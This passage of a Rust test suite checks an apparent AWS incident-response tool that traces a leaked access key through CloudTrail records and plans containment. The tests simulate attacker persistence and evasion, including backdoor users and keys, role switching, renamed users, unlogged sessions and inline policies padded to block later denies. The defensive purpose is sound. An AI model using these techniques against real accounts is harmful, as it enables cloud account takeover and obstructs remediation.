        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let role = format!("arn:aws:iam::{MAIN}:role/AdminRole");
        s.create_user(&leaked, T0 + 10, "jdoe");
        s.create_login_profile(&leaked, T0 + 20, "jdoe");
        let console = s.console_login(MAIN, T0 + 120, "jdoe");
        s.call(&console, T0 + 130, "iam.amazonaws.com", "ListRoles", Value::Null);
        let theirs = s.console_login(THIRD, T0 + 200, "jdoe");
        let admin = s.switch_role(&theirs, T0 + 300, &role);
        s.create_user(&admin, T0 + 320, "svc-backup");
        let made = s.create_access_key(&admin, T0 + 330, Some("svc-backup"));
        s.call(&made, T0 + 400, "s3.amazonaws.com", "ListBuckets", Value::Null);
        s.drop_records(|account, _| account == THIRD);
        if elsewhere {
            s.edit_records(|_, r| {
                if r["userIdentity"]["accessKeyId"] == admin.key.as_str() {
                    r["sourceIPAddress"] = Value::from("198.51.100.20");
                }
            });
        }
        let d = write(&s, &[]);
        let tainted = tainted_ids(&d, LEAKED);
        assert_eq!(tainted.contains(&admin.node_id()), !elsewhere, "{tainted:?}");
        assert_eq!(tainted.contains(&made.node_id()), !elsewhere, "{tainted:?}");
        if !elsewhere {
            let p = plan(&d, LEAKED, "strict");
            assert!(deactivated(&p).contains(&made.key.as_str()), "{p}");
            continue;
        }
        let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
        assert_eq!(code, 1, "{err}");
        assert!(principals(&p, "put_role_policy").contains(&role), "{p}");
        assert!(!deactivated(&p).contains(&made.key.as_str()), "{p}");
        let removed: Vec<&str> =
            actions(&p, "delete_user").iter().filter_map(|a| a["user_name"].as_str()).collect();
        assert!(!removed.contains(&"svc-backup"), "{removed:?}");
        let reviews = review_reasons(&p);
        assert!(
            reviews
                .iter()
                .any(|r| r.contains("named as a console switch-role from tainted console session")),
            "{reviews:?}"
        );
        assert_eq!(verify(&d, &p).0, 1, "verify fails on the session to check");
    }
}

/// The leaked key replaces the code of function `orders` in us-east-1. A function of the same
/// name in eu-west-1, with a role of its own, runs sessions Lambda took there (its
/// `AssumeRole` logged in eu-west-1): another function, not the attacker's. Its sessions were
/// tainted and its role denied for good by `aws:userid`, plan exit 0 (a review). Now only the
/// us-east-1 function's are; a session whose `AssumeRole` is not logged may be either's and
/// stays the change's, though the eu-west-1 function was deployed since (a review of the fix:
/// the later change of the other region was taken as its latest, and it went untainted).
#[test]
fn a_function_of_the_same_name_in_another_region_is_another_function() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let role = format!("arn:aws:iam::{MAIN}:role/OrdersRole");
    let eu_role = format!("arn:aws:iam::{MAIN}:role/OrdersRoleEU");
    s.function_change(&leaked, T0 + 10, "UpdateFunctionCode20150331v2", "orders", Some(&role));
    // The eu-west-1 function's own deployment, later: it hides no change of the us-east-1
    // function from a session that may be either's.
    let deployer = s.user_key(MAIN, "deployer", "AKIAI44QH8DHBEXAMPLE");
    let theirs_change =
        s.function_change(&deployer, T0 + 50, "UpdateFunctionCode20150331v2", "orders", None);
    s.edit_records(|_, r| {
        if r["eventID"] == theirs_change.as_str() {
            r["awsRegion"] = Value::from("eu-west-1");
        }
    });
    let ours = s.lambda_session(&role, "orders", T0 + 60, "us-east-1");
    let unlogged = s.function_session(&role, "orders", T0 + 70, 3600);
    let theirs = s.lambda_session(&eu_role, "orders", T0 + 80, "eu-west-1");
    for (i, c) in [&ours, &unlogged, &theirs].into_iter().enumerate() {
        s.call(c, T0 + 100 + i as i64, "dynamodb.amazonaws.com", "GetItem", Value::Null);
    }
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&ours.node_id()), "{tainted:?}");
    assert!(tainted.contains(&unlogged.node_id()), "{tainted:?}");
    assert!(!tainted.contains(&theirs.node_id()), "{tainted:?}");
    for strategy in ["strict", "surgical"] {
        let p = plan(&d, LEAKED, strategy);
        let denied = principals(&p, "put_role_policy");
        assert!(denied.contains(&role), "{strategy}: {denied:?}");
        assert!(!denied.contains(&eu_role), "{strategy}: {denied:?}");
        assert_eq!(verify(&d, &p).0, 0, "{strategy}");
    }
}

/// A console switch-role whose calls lack `sessionCredentialFromConsole` (some console calls
/// do), on the switched session's side or on the user's console session's side: still linked,
/// so the role the attacker's user switched to is denied.
#[test]
fn a_switch_role_is_linked_when_the_console_flag_is_missing_on_either_side() {
    for unflag_switched in [true, false] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        s.create_user(&leaked, T0 + 10, "backdoor");
        s.create_login_profile(&leaked, T0 + 20, "backdoor");
        let console = s.console_login(MAIN, T0 + 120, "backdoor");
        let role = format!("arn:aws:iam::{MAIN}:role/AdminRole");
        let admin = s.switch_role(&console, T0 + 180, &role);
        let (console, admin) = if unflag_switched {
            (console, admin.unflagged())
        } else {
            (console.unflagged(), admin)
        };
        s.call(&console, T0 + 130, "iam.amazonaws.com", "ListRoles", Value::Null);
        s.call(&admin, T0 + 200, "iam.amazonaws.com", "ListUsers", Value::Null);
        let d = write(&s, &[]);
        let tainted = tainted_ids(&d, LEAKED);
        assert!(tainted.contains(&admin.node_id()), "{unflag_switched}: {tainted:?}");
        let p = plan(&d, LEAKED, "strict");
        assert!(principals(&p, "put_role_policy").contains(&role), "{unflag_switched}: {p}");
        assert_eq!(verify(&d, &p).0, 0, "{unflag_switched}");
    }
}

/// The leaked key assumes a role through a regional STS endpoint the trail does not record:
/// the session's calls are in the trail, its issuing call is not, and nothing links it to the
/// key. It is not tainted (the evidence cannot say whose it is), but it called from the
/// attacker's address: `blast` signals it and the plan holds a review item naming it, so a
/// responder is not told all is well in silence. A session of the same role from another
/// address, and an IAM Identity Center session from the same address, are not named; past 20,
/// the plan names the rest in one item.
#[test]
fn a_session_issued_out_of_sight_from_the_attackers_address_is_a_review_item() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.call(&leaked, T0, "iam.amazonaws.com", "ListRoles", Value::Null);
    let admin = format!("arn:aws:iam::{MAIN}:role/Admin");
    let sso = format!("arn:aws:iam::{MAIN}:role/AWSReservedSSO_Admin_0123456789abcdef");
    let hidden: Vec<_> = (0..22)
        .map(|i| s.assume_role(&leaked, T0 + 10 + i, &admin, &format!("x{i}"), 43200))
        .collect();
    let hers = s.assume_role(&leaked, T0 + 40, &admin, "alice", 12 * 3600);
    let sso_session = s.assume_role(&leaked, T0 + 50, &sso, "alice@example.com", 3600);
    s.drop_records(|_, r| r["eventName"] == "AssumeRole");
    for (i, h) in hidden.iter().enumerate() {
        s.call(h, T0 + 100 + i as i64, "iam.amazonaws.com", "ListUsers", Value::Null);
    }
    s.call(&sso_session, T0 + 130, "iam.amazonaws.com", "ListUsers", Value::Null);
    // What a suspected session issued is named with it: a deny of it alone leaves that (F5).
    let deep = format!("arn:aws:iam::{MAIN}:role/Deep");
    let child = s.assume_role(&hidden[0], T0 + 135, &deep, "d1", 3600);
    let other = s.call(&hers, T0 + 140, "iam.amazonaws.com", "ListUsers", Value::Null);
    s.edit_records(|_, r| {
        if r["eventID"] == *other {
            r["sourceIPAddress"] = "198.51.100.20".into();
        }
    });
    let d = write(&s, &[]);
    let (_, b, _) = run(&["blast", "--key", LEAKED, "--format", "json"], &d);
    let named: std::collections::BTreeSet<&str> = b["signals"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|x| x["kind"] == "session_without_issuer_from_attacker_ip")
        .map(|x| x["credential"].as_str().unwrap())
        .collect();
    let ids: Vec<String> = hidden.iter().map(|h| h.node_id()).collect();
    assert_eq!(named, ids.iter().map(String::as_str).collect(), "{b}");
    let p = plan(&d, LEAKED, "strict");
    let suspected: Vec<&str> = actions(&p, "review")
        .iter()
        .filter_map(|a| a["reason"].as_str().filter(|r| r.starts_with("SUSPECTED")))
        .collect();
    assert_eq!(suspected.len(), 21, "20 named, one for the other 2: {suspected:?}");
    assert!(suspected.iter().any(|r| r.contains("2 more role sessions")), "{suspected:?}");
    assert!(suspected.iter().any(|r| r.contains(&child.node_id())), "{suspected:?}");
}

/// A suspected session (no issuing call in the trail, called from the leaked key's address)
/// that made a user with a password and a key: a deny of the session, all its review item
/// offered, leaves the user and the key valid, and nothing in the plan acts on them (a
/// review: the review item was silent on them). Its review item and a note of the plan and of
/// verify name what it made. Not a failure (a review of a first version that failed plan and
/// verify: a clean admin's session on a NAT the leaked key's own calls went through makes
/// roles and users too), and what was deleted since is not named.
#[test]
fn a_suspected_session_that_made_a_user_and_a_key_names_them() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.call(&leaked, T0, "iam.amazonaws.com", "ListRoles", Value::Null);
    let admin = format!("arn:aws:iam::{MAIN}:role/Admin");
    let hidden = s.assume_role(&leaked, T0 + 10, &admin, "x", 3600);
    s.drop_records(|_, r| r["eventName"] == "AssumeRole");
    s.call(&hidden, T0 + 60, "iam.amazonaws.com", "ListUsers", Value::Null);
    let quiet = s.clone();
    s.create_user(&hidden, T0 + 120, "backdoor");
    s.create_login_profile(&hidden, T0 + 130, "backdoor");
    let key = s.create_access_key(&hidden, T0 + 140, Some("backdoor"));
    s.call(&key, T0 + 600, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let note_of = |p: &Value| {
        p["notes"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|n| n.as_str())
            .find(|n| n.starts_with(&format!("SUSPECTED session {}", hidden.node_id())))
            .map(String::from)
    };
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let note = note_of(&p).unwrap_or_else(|| panic!("{p:#}"));
    assert!(note.contains(&format!("access key {} of", key.key)), "{note}");
    assert!(
        note.contains(&format!("user arn:aws:iam::{MAIN}:user/backdoor (CreateUser")),
        "{note}"
    );
    assert!(
        note.contains("(CreateLoginProfile") && note.contains("does NOT act on them"),
        "{note}"
    );
    let review = review_reasons(&p)
        .into_iter()
        .find(|r| r.starts_with("SUSPECTED"))
        .unwrap_or_else(|| panic!("{p:#}"));
    assert!(review.contains(&key.key) && review.contains("user/backdoor"), "{review}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v:#}");
    assert!(v["notes"].to_string().contains(&format!("SUSPECTED session {}", hidden.node_id())));
    // The user (and so its key) deleted since: nothing of it is left to name.
    let mut deleted = s.clone();
    deleted.call(
        &hidden,
        T0 + 900,
        "iam.amazonaws.com",
        "DeleteUser",
        json!({"userName": "backdoor"}),
    );
    let p = plan(&write(&deleted, &[]), LEAKED, "strict");
    assert_eq!(note_of(&p), None, "{p:#}");
    // The same session that made nothing: a review item only, as before.
    let d = write(&quiet, &[]);
    let p = plan(&d, LEAKED, "strict");
    assert!(review_reasons(&p).iter().any(|r| r.starts_with("SUSPECTED")), "{p:#}");
    assert_eq!(note_of(&p), None);
    assert_eq!(verify(&d, &p).0, 0);
}

/// F8 limits the total of a principal's inline policies. The leaked key puts a policy of about
/// 1,990 characters (pretty-printed: whitespace does not count) on its own user, and the
/// attacker's role session puts one on AdminRole whose record does not hold its document. An
/// inline deny on either would be refused by IAM (`LimitExceeded`) while the plan's proof
/// counted it as applied: verify said OK and plan.sh failed at apply time. Without an IAM
/// snapshot, the plan now makes those denies managed policies attached to the principal, and
/// verify refuses an inline deny the trail shows has no room.
#[test]
fn inline_policies_the_attacker_put_leave_the_deny_no_room_so_it_is_attached_as_managed() {
    let build = |pad: bool| {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let token = s.get_session_token(&leaked, T0, 36 * 3600);
        s.call(&token, T0 + 10, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let admin = s.assume_role(
            &leaked,
            T0 + 20,
            &format!("arn:aws:iam::{MAIN}:role/AdminRole"),
            "a",
            7200,
        );
        let deploy = s.assume_role(
            &leaked,
            T0 + 30,
            &format!("arn:aws:iam::{MAIN}:role/DeployRole"),
            "d",
            7200,
        );
        if pad {
            let sid = "k".repeat(1900);
            let doc = format!(
                "{{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [\n    {{\n      \"Sid\": \"{sid}\",\n      \"Effect\": \"Allow\",\n      \"Action\": \"sts:GetCallerIdentity\",\n      \"Resource\": \"*\"\n    }}\n  ]\n}}"
            );
            let request =
                json!({"userName": "ci-deployer", "policyName": "pad", "policyDocument": doc});
            s.call(&leaked, T0 + 40, "iam.amazonaws.com", "PutUserPolicy", request);
            let unknown = json!({"roleName": "AdminRole", "policyName": "pad2"});
            s.call(&admin, T0 + 50, "iam.amazonaws.com", "PutRolePolicy", unknown);
            let small = json!({"roleName": "DeployRole", "policyName": "small", "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[]}"});
            s.call(&deploy, T0 + 60, "iam.amazonaws.com", "PutRolePolicy", small);
        } else {
            s.call(&admin, T0 + 50, "iam.amazonaws.com", "ListRoles", Value::Null);
            s.call(&deploy, T0 + 60, "iam.amazonaws.com", "ListRoles", Value::Null);
        }
        write(&s, &[])
    };
    let padded = build(true);
    let p = plan(&padded, LEAKED, "strict");
    let user = format!("arn:aws:iam::{MAIN}:user/ci-deployer");
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let deploy = format!("arn:aws:iam::{MAIN}:role/DeployRole");
    assert!(!principals(&p, "put_user_policy").contains(&user), "{p:#}");
    assert!(principals(&p, "attach_user_policy").contains(&user), "{p:#}");
    assert!(!principals(&p, "put_role_policy").contains(&admin), "{p:#}");
    assert!(principals(&p, "attach_role_policy").contains(&admin), "{p:#}");
    // DeployRole's 39 characters leave room: its deny stays inline, with the room left.
    let put = actions(&p, "put_role_policy");
    let d = put.iter().find(|a| a["principal_arn"] == deploy.as_str()).expect("DeployRole inline");
    assert_eq!(d["policy_size_limit"], 10240 - 39, "{d:#}");
    assert_eq!(actions(&p, "create_policy").len(), 2, "{p:#}");
    let notes = p["notes"].to_string();
    assert!(
        notes.contains("pad (2014)) already use 2014 of 2048"),
        "whitespace not counted: {notes}"
    );
    assert!(
        notes.contains("inline policy pad2 on it, of a size the record does not show"),
        "{notes}"
    );
    let (code, v) = verify(&padded, &p);
    assert_eq!(code, 0, "{v:#}");
    // The plan made where the trail lacks the attacker's puts keeps both denies inline:
    // verified against the trail that holds them, IAM would refuse both.
    let inline = plan(&build(false), LEAKED, "strict");
    assert!(principals(&inline, "put_user_policy").contains(&user), "{inline:#}");
    let (code, v) = verify(&padded, &inline);
    assert_ne!(code, 0, "{v:#}");
    let problems = v["command_problems"].to_string();
    assert!(
        problems.contains("IAM would refuse it") && problems.contains("per the trail"),
        "{v:#}"
    );
    assert_eq!(v["command_problems"].as_array().unwrap().len(), 2, "{v:#}");
}

/// A session's end is a fact the logs can contradict: a session used after its stated
/// `expiration` (15 minutes, then a call an hour and a half later), one whose `expiration` is
/// before its issue (a misread year), and a role assumed for 12 hours from an instance's
/// session whose records do not carry `ec2RoleDelivery` (taken for a chain link, capped at an
/// hour, F4) were each judged expired at the cut-off: no deny, and verify said OK.
#[test]
fn a_session_the_logs_show_alive_past_its_stated_end_is_still_denied() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let short = format!("arn:aws:iam::{MAIN}:role/ShortRole");
    let hop = s.assume_role(&leaked, T0, &short, "x", 900);
    s.call(&hop, T0 + 100, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&hop, T0 + 5400, "iam.amazonaws.com", "ListUsers", Value::Null);
    let misread = format!("arn:aws:iam::{MAIN}:role/MisreadRole");
    let hop2 = s.assume_role(&leaked, T0 + 10, &misread, "y", 7200);
    s.call(&hop2, T0 + 110, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let web = format!("arn:aws:iam::{MAIN}:role/WebRole");
    let instance = s.instance_session(&web, "i-0e71aa70123c6077b", T0 - 600, 6 * 3600);
    s.call(&instance, T0 - 500, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let from_instance = s.assume_role(&instance, T0 + 20, &admin, "z", 43200);
    s.call(&from_instance, T0 + 120, "iam.amazonaws.com", "ListRoles", Value::Null);
    s.edit_records(|_, r| {
        let role = r["requestParameters"]["roleArn"].as_str().unwrap_or("").to_string();
        if role == misread {
            r["responseElements"]["credentials"]["expiration"] = json!("Mar 11, 24, 10:00:00 PM");
        }
        if role == admin {
            r["responseElements"]["credentials"].as_object_mut().unwrap().remove("expiration");
        }
        if let Some(c) = r["userIdentity"]["sessionContext"].as_object_mut() {
            c.remove("ec2RoleDelivery");
        }
    });
    // A call logged two seconds after a 15-minute session's end is clock skew, not a
    // contradiction: that session stays expired at the cut-off, and its role is not denied.
    let skewed = format!("arn:aws:iam::{MAIN}:role/SkewRole");
    let hop3 = s.assume_role(&leaked, T0 + 30, &skewed, "k", 900);
    s.call(&hop3, T0 + 30 + 902, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let denied = principals(&p, "put_role_policy");
    for role in [&short, &misread] {
        assert!(denied.contains(role), "{role} not denied: {p:#}");
    }
    assert!(!denied.contains(&skewed), "{p:#}");
    assert!(p["notes"].to_string().contains("is not believed"), "{p:#}");
    // The misread one is named in the session graph's notes.
    let (_, g, _) = run(&["sessions", "--format", "json"], &d);
    let notes = g["notes"].to_string();
    assert!(
        notes.contains("the expiration 0024-03-11T22:00:00Z its issuing call states"),
        "{notes}"
    );
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v:#}");
    // The stated ends that are not believed are not shown as the sessions' ends.
    let creds = p["tainted"]["credentials"].as_array().unwrap();
    let of = |c: &Cred| creds.iter().find(|x| x["id"] == c.node_id().as_str()).unwrap().clone();
    assert_eq!(of(&hop)["status"], "live", "{:#}", of(&hop));
    assert_ne!(of(&hop2)["expires_at"], "0024-03-11T22:00:00Z", "{:#}", of(&hop2));
    let p = plan(&d, &instance.key, "strict");
    assert!(principals(&p, "put_role_policy").contains(&admin), "AdminRole not denied: {p:#}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v:#}");
}

/// A tainted session's call whose `creationDate` fits no session (1970, 2099, minutes before
/// the issuing call) became an orphan of its own, untainted, as did a call without
/// `creationDate` logged a second before the call that issued its key: the access key each
/// made was never deactivated, and verify said OK. They are now taken for the session whose
/// key id and ARN they share, by the time of their first call.
#[test]
fn calls_with_a_creation_date_that_fits_no_session_are_still_the_sessions() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let mut made = Vec::new();
    for (i, bad) in ["1970-01-01T00:00:00Z", "2099-01-01T00:00:00Z", "2024-03-11T09:50:00Z", ""]
        .iter()
        .enumerate()
    {
        let at = T0 + 100 * i as i64;
        let hop = s.assume_role(&leaked, at, &admin, &format!("s{i}"), 7200);
        let user = format!("backup{i}");
        // The last one is logged a second before the AssumeRole that issued its key.
        let when = if bad.is_empty() { at - 1 } else { at + 50 };
        let key = s.create_access_key(&hop, when, Some(&user));
        s.call(&key, at + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
        made.push((user, key.key.clone(), bad.to_string()));
    }
    let forged = made.clone();
    s.edit_records(|_, r| {
        let user = r["requestParameters"]["userName"].as_str().unwrap_or("").to_string();
        let Some((_, _, bad)) = forged.iter().find(|(u, _, _)| *u == user) else { return };
        if r["eventName"] != "CreateAccessKey" {
            return;
        }
        let ctx = &mut r["userIdentity"]["sessionContext"];
        if bad.is_empty() {
            ctx.as_object_mut().unwrap().remove("attributes");
        } else {
            ctx["attributes"]["creationDate"] = json!(bad);
        }
    });
    let d = write(&s, &[]);
    // Exit 1: the 2099 one (below).
    let (code, p, err) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    let keys = deactivated(&p);
    for (user, key, bad) in &made {
        assert!(keys.contains(&key.as_str()), "{user}'s key ({bad:?}) not deactivated: {p:#}");
    }
    let (_, g, err) = run(&["sessions", "--format", "json"], &d);
    let notes = g["notes"].to_string();
    assert!(
        notes.contains("(its calls' creationDate, 1970-01-01T00:00:00Z, fits no session)"),
        "{notes}{err}"
    );
    assert!(notes.contains("(its calls carry no creationDate)"), "{notes}");
    let (code, v) = verify(&d, &p);
    // The 2099 creationDate is a session issued after the cut-off as far as IAM's
    // aws:TokenIssueTime is concerned: it is named NOT COVERED, never silently passed.
    assert_eq!(code, 1, "{v:#}");
    let not_covered = v["not_covered"].to_string();
    assert!(not_covered.contains("2099"), "{v:#}");
    assert!(!not_covered.contains("1970"), "{v:#}");
}

/// A key the attacker created, written in lower case (or with blanks) in the CreateAccessKey
/// response of a damaged or forged record, while its uses carry it in capitals as AWS writes
/// it: the key was left to a by-hand review and the 36-hour session it minted was never
/// tainted, so no deny was planned for its user.
#[test]
fn a_created_key_written_in_lower_case_is_still_the_key_its_uses_name() {
    for written in ["akiaexamplebackup001", " AKIAEXAMPLEBACKUP001 "] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let key = s.create_access_key_with(&leaked, T0, Some("backup"), written);
        let mut key = key;
        key.key = "AKIAEXAMPLEBACKUP001".into();
        let token = s.get_session_token(&key, T0 + 60, 36 * 3600);
        s.call(&token, T0 + 120, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let d = write(&s, &[]);
        let p = plan(&d, LEAKED, "strict");
        assert!(deactivated(&p).contains(&"AKIAEXAMPLEBACKUP001"), "{written:?}: {p:#}");
        let user = format!("arn:aws:iam::{MAIN}:user/backup");
        assert!(principals(&p, "put_user_policy").contains(&user), "{written:?}: {p:#}");
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 0, "{written:?}: {v:#}");
    }
}

/// A session's `aws:TokenIssueTime` is the `creationDate` its calls carry, seen up to two
/// seconds after its issuing call's `eventTime`. For a session the trail never shows in use,
/// a cut-off one second after the call was judged to cover it, while IAM's `DateLessThan`
/// may miss it: it is now judged at the latest issue time it may have.
#[test]
fn a_session_never_seen_in_use_is_covered_only_by_a_cut_off_past_its_issue_skew() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let role = format!("arn:aws:iam::{MAIN}:role/Quiet");
    s.assume_role(&leaked, T0, &role, "q", 7200);
    let d = write(&s, &[]);
    let at = |t: i64| trailhound::time::fmt_iso(t);
    let (code, p, err) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", &at(T0 + 1)], &d);
    assert_eq!(code, 1, "{err}");
    assert_eq!(p["summary"]["uncovered_sessions"], 1, "{}", p["summary"]);
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 1, "{v:#}");
    let (code, p, err) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", &at(T0 + 3)], &d);
    assert_eq!(code, 0, "{err}");
    assert!(principals(&p, "put_role_policy").contains(&role), "{p:#}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v:#}");
}

/// Three ways the attacker's inline policies escaped the F8 room check (a review of the
/// check): a put naming the user in another case (IAM names are not told apart by case), a put
/// whose record lost its request (CloudTrail drops one over 100 KB: a document padded with
/// blanks F8 does not count), and a put by the attacker's user from a console session whose
/// record carries no key. Each left the deny inline with no room and verify said OK.
#[test]
fn inline_room_is_judged_whatever_the_case_the_record_or_the_credential_of_the_put() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let token = s.get_session_token(&leaked, T0, 36 * 3600);
    s.call(&token, T0 + 10, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let hop = s.assume_role(&leaked, T0 + 20, &admin, "a", 7200);
    let doc = padded_policy(1930);
    let put = |user: &str| json!({"userName": user, "policyName": "pad", "policyDocument": doc});
    s.call(&leaked, T0 + 30, "iam.amazonaws.com", "PutUserPolicy", put("CI-DEPLOYER"));
    s.call(&hop, T0 + 40, "iam.amazonaws.com", "PutRolePolicy", json!({"roleName": "AdminRole"}));
    s.create_user(&leaked, T0 + 50, "evil");
    s.create_login_profile(&leaked, T0 + 60, "evil");
    let console = s.console_login(MAIN, T0 + 120, "evil");
    s.call(&console, T0 + 130, "iam.amazonaws.com", "PutUserPolicy", put("evil"));
    s.edit_records(|_, r| {
        if r["eventName"] == "PutRolePolicy" {
            r["requestParameters"] = Value::Null;
        }
        if r["eventName"] == "PutUserPolicy" && r["requestParameters"]["userName"] == "evil" {
            r["userIdentity"].as_object_mut().unwrap().remove("accessKeyId");
        }
    });
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    for arn in
        [format!("arn:aws:iam::{MAIN}:user/ci-deployer"), format!("arn:aws:iam::{MAIN}:user/evil")]
    {
        assert!(!principals(&p, "put_user_policy").contains(&arn), "{arn} inline: {p:#}");
        assert!(principals(&p, "attach_user_policy").contains(&arn), "{arn} not attached: {p:#}");
    }
    assert!(!principals(&p, "put_role_policy").contains(&admin), "{p:#}");
    assert!(principals(&p, "attach_role_policy").contains(&admin), "{p:#}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v:#}");
}

/// A user renamed after the attacker filled its inline budget takes its inline policies along:
/// the deny on the new name has no more room than on the old one (a review of the F8 room).
#[test]
fn a_renamed_user_keeps_the_inline_room_its_policies_used() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.create_user(&leaked, T0, "tmp");
    let doc = padded_policy(1930);
    let put = json!({"userName": "tmp", "policyName": "pad", "policyDocument": doc});
    s.call(&leaked, T0 + 10, "iam.amazonaws.com", "PutUserPolicy", put);
    let key = s.create_access_key(&leaked, T0 + 20, Some("tmp"));
    let rename = json!({"userName": "tmp", "newUserName": "evil"});
    s.call(&leaked, T0 + 30, "iam.amazonaws.com", "UpdateUser", rename);
    // The key now signs as user evil.
    let key = s.user_key(MAIN, "evil", &key.key);
    let token = s.get_session_token(&key, T0 + 60, 36 * 3600);
    s.call(&token, T0 + 70, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let (code, p, err) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
    assert!(code == 0 || code == 1, "{err}");
    let evil = format!("arn:aws:iam::{MAIN}:user/evil");
    assert!(!principals(&p, "put_user_policy").contains(&evil), "{p:#}");
    assert!(principals(&p, "attach_user_policy").contains(&evil), "{p:#}");
}

/// A policy document of one statement whose `Sid` is `n` characters long (2,014 characters in
/// all for 1,930, no whitespace): enough to leave a user's inline budget (F8) no room.
fn padded_policy(n: usize) -> String {
    format!(
        "{{\"Version\":\"2012-10-17\",\"Statement\":[{{\"Sid\":\"{}\",\"Effect\":\"Allow\",\"Action\":\"sts:GetCallerIdentity\",\"Resource\":\"*\"}}]}}",
        "k".repeat(n)
    )
}

/// A user the attacker made and then renamed (`UpdateUser`) is known to IAM only by its new
/// name: every action takes that name (under the old one IAM answers NoSuchEntity, and its key
/// would stay active), its clean-up removes what its own console session put on it (a call
/// that may carry no key, F17), and `verify` counts a deactivation under the old name as no
/// deactivation and a DeleteUser before that clean-up as one that fails.
#[test]
fn a_user_the_attacker_renamed_is_acted_on_under_its_new_name() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.create_user(&leaked, T0, "tmp");
    s.create_login_profile(&leaked, T0 + 5, "tmp");
    let key = s.create_access_key(&leaked, T0 + 20, Some("tmp"));
    s.attach_user_policy(&leaked, T0 + 25, "tmp", "arn:aws:iam::aws:policy/AdministratorAccess");
    let rename = json!({"userName": "tmp", "newUserName": "Evil"});
    s.call(&leaked, T0 + 30, "iam.amazonaws.com", "UpdateUser", rename);
    // The key now signs as user Evil; its console session puts a policy with no key (F17).
    let key = s.user_key(MAIN, "Evil", &key.key);
    s.call(&key, T0 + 70, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let console = s.console_login(MAIN, T0 + 80, "Evil");
    s.call(&console, T0 + 85, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.put_user_policy(&console, T0 + 90, "Evil", "backdoor");
    // The leaked key's own user is renamed too.
    let rename = json!({"userName": "ci-deployer", "newUserName": "ops"});
    s.call(&leaked, T0 + 100, "iam.amazonaws.com", "UpdateUser", rename);
    s.edit_records(|_, r| {
        if r["eventName"] == "PutUserPolicy" {
            r["userIdentity"].as_object_mut().unwrap().remove("accessKeyId");
        }
    });
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let user_of = |kind: &str| -> Vec<String> {
        actions(&p, kind)
            .iter()
            .map(|a| a["user_name"].as_str().unwrap_or("").to_string())
            .collect()
    };
    let named = |kind: &str, field: &str, value: &str| {
        actions(&p, kind).iter().find(|a| a[field] == value).map(|a| a["user_name"].clone())
    };
    assert_eq!(
        named("deactivate_access_key", "access_key_id", &key.key),
        Some(json!("Evil")),
        "{p:#}"
    );
    assert_eq!(
        named("deactivate_access_key", "access_key_id", LEAKED),
        Some(json!("ops")),
        "{p:#}"
    );
    let evil = format!("arn:aws:iam::{MAIN}:user/Evil");
    assert!(principals(&p, "put_user_policy").contains(&evil), "{p:#}");
    assert_eq!(user_of("delete_user"), ["Evil"], "{p:#}");
    assert_eq!(user_of("detach_user_policy"), ["Evil"], "{p:#}");
    assert_eq!(user_of("delete_login_profile"), ["Evil"], "{p:#}");
    let inline: Vec<&str> = actions(&p, "delete_user_policy")
        .iter()
        .map(|a| a["policy_name"].as_str().unwrap())
        .collect();
